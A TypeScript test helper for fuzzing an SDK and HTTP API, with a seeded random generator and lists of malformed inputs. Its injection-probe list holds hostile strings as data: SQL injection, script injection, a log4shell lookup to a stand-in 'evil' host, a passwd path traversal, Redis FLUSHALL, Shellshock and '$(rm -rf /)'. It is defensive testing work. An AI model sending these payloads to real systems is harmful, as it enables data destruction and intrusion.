/**
 * What the fuzz suites of the SDK and the HTTP API share: one seeded generator (mulberry32), so a
 * failing case reproduces from its seed and index, and the hostile strings both throw at every field.
 * A seeded menu of malformations instead of fast-check: shrinking (its strength) buys little when the
 * cases are a fixed menu applied to a valid request.
 */
export interface SeededRandom {
  /** A float in [0, 1). */
  (): number;
  /** One of `values`, uniformly. */
  pick<T>(values: readonly T[]): T;
}

export function seededRandom(seed: number): SeededRandom {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return Object.assign(next, {
    pick<T>(values: readonly T[]): T {
      return values[Math.floor(next() * values.length)]!;
    },
  });
}

/** Injection probes (SQL, HTML, templates, shell, Redis, headers, format strings), meant literally. */
export const INJECTION_STRINGS: readonly string[] = [
  "'; DROP TABLE generations; --",
  '" OR "1"="1',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, meant literally
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '\u0000\u0001\u0002',
  'EVAL "return redis.call(\'FLUSHALL\')" 0',
  '\r\nSet-Cookie: a=b',
  '%s%s%s%n',
  '() { :; }; echo pwned',
  '$(rm -rf /)',
];

/** Numbers no count, priority, seed or duration accepts (negative, fractional, enormous, non-finite). */
export const HOSTILE_NUMBERS: readonly number[] = [
  -1,
  -1e308,
  1e308,
  1.5,
  2 ** 53 + 1,
  Number.NaN,
  Number.POSITIVE_INFINITY,
];
